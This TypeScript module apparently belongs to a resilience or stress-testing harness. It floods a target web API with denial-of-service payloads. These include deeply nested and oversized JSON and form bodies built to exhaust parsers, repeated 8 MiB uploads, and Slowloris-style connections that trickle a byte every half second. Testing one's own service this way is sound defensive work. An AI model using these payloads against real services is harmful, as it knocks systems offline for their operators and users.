import { connect } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import type { Attacker } from '../attacker.ts'

const MiB = 2 ** 20
const form = 'application/x-www-form-urlencoded'
const octets = 'application/octet-stream'

interface Body {
  type: string
  bytes: Buffer
}

/** Bodies as large as they may be, of the kinds that cost most to read, beside some that never end. */
export async function bodies(attacker: Attacker) {
  const { call, endlessly, chance } = attacker
  const all = giantBodies()
  const piece = Buffer.alloc(8 * MiB)
  const routes = ['POST /message', 'POST /calendar', 'POST /post', 'POST /campaign', 'GET /message', 'POST /tag']
  await Promise.all([
    endlessly(8, (turn) => {
      const { type, bytes } = all[turn % all.length] as Body
      return call(routes[Math.floor(chance() * routes.length)] ?? '', { body: bytes, type })
    }),
    endlessly(4, () => call('PUT /app/api/media/021none00000001', { query: 'offset=0', body: piece, type: octets })),
    ...attacker.targets.users.flatMap((user) => [slowly(attacker, user), slowly(attacker, user)]),
  ])
}

export function giantBodies(): Body[] {
  const json = (text: string) => ({ type: 'application/json', bytes: Buffer.from(text) })
  const many = (count: number, made: (index: number) => string, glue: string) =>
    Array.from({ length: count }, (_, index) => made(index)).join(glue)
  const pair = (index: number) => `"k${index}":1`
  const leaf = (index: number) => `"${index}":{}`
  return [
    json(`{"message":${'['.repeat(500_000)}${']'.repeat(500_000)}}`),
    json(`{"filters":{"campaigns":[${many(150_000, (index) => `"${index}"`, ',')}]}}`.slice(0, MiB)),
    json(`{${many(80_000, pair, ',')}}`),
    json(`{"filters":{${many(60_000, leaf, ',')}}}`),
    json(`{"tagIds":[${many(120_000, () => '{}', ',')}]}`),
    json(`{"message":"${'\\u0041'.repeat(170_000)}"}`),
    json(`{"${'a'.repeat(1_000_000)}":1}`),
    { type: form, bytes: Buffer.from(many(2_000, () => `a=${'%41'.repeat(150)}`, '&')) },
    { type: form, bytes: Buffer.from(many(2_000, (index) => `a[${index % 900}][b][c][d]=${'%41'.repeat(150)}`, '&')) },
    { type: form, bytes: Buffer.from(`filters${'[a]'.repeat(300_000)}=1`) },
    { type: form, bytes: Buffer.from(many(1_000_000, () => '', '&')) },
  ]
}

/** A body that is announced and comes a byte at a time; whoever cuts it off gets the next one. */
async function slowly({ targets, count }: Attacker, authorization: string) {
  const { hostname, port } = new URL(targets.url)
  const head = `POST /v2/message HTTP/1.1\r\nHost: ${hostname}\r\nAuthorization: ${authorization}\r\nContent-Type: application/json\r\nContent-Length: ${MiB}\r\n\r\n{`
  for (;;) {
    const socket = connect(Number(port), hostname)
    socket.on('error', () => {})
    socket.resume()
    socket.write(head)
    while (!socket.destroyed) {
      await sleep(500)
      if (socket.writable) socket.write(' ')
    }
    count('slow body ended')
    socket.destroy()
  }
}
